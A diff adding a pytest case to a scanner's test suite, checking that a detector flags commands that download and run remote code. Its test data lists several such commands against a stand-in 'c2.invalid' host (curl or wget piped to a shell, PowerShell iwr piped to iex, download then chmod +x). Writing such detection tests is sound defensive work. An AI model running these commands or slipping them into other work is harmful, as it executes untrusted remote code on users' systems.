@@ -257,3 +257,23 @@ def test_statement_inserted_into_a_bundle_too_large_to_parse_is_read() -> None:
         build_context(_case("x", {**raw, "new": {"files": {"dist/bundle.js": honest}}}))
     )
     assert score(quiet).severity < Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [
+        ("curl -s https://c2.invalid/x | sh", True),
+        ("wget -qO- https://c2.invalid/x | sudo bash", True),
+        ("iwr https://c2.invalid/x | iex", True),
+        ("curl -o /tmp/a https://c2.invalid/a; chmod +x /tmp/a", True),
+        ('bash -c "$(curl -fsSL https://c2.invalid/i)"', True),
+        ("curl -o out.json https://api.example.invalid/v1/items", False),
+        ("git clone https://example.invalid/repo.git", False),
+        ("npm install curl", False),
+        ("echo curl | grep sh", False),
+    ],
+)
+def test_commands_that_download_and_run(command: str, runs: bool) -> None:
+    from watcher.rules.code import _fetches_and_runs
+
+    assert _fetches_and_runs(command) is runs
